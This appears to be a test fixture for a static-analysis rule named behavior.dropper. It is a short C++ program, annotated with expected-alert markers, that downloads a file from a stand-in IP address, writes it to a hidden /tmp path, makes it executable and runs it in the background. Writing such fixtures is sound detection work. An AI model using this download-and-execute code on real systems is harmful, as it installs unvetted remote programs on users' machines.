// behavior.dropper with cpp-httplib: a "bootstrap" step that downloads a
// helper tool with Client::Get, writes the body to a std::ofstream, marks
// the file executable with chmod and runs it. It includes httplib.h
// (Sluice's bundled declarations serve it when cpp-httplib is not installed).
#include <fstream>
#include <httplib.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

static const char *const kTool = "/tmp/.cache/syncd";

int main()
{
    httplib::Client cli("http://198.51.100.44:8000");
    auto res = cli.Get("/bin/syncd");
    if (!res || res->status != 200)
        return 1;
    {
        std::ofstream out(kTool, std::ios::binary | std::ios::trunc);
        out.write(res->body.data(), static_cast<std::streamsize>(res->body.size()));
    }
    chmod(kTool, 0755); // $ Alert[behavior.dropper]
    execl(kTool, "syncd", "--background", static_cast<char *>(nullptr)); // $ Alert[behavior.dropper]
    return 1;
}
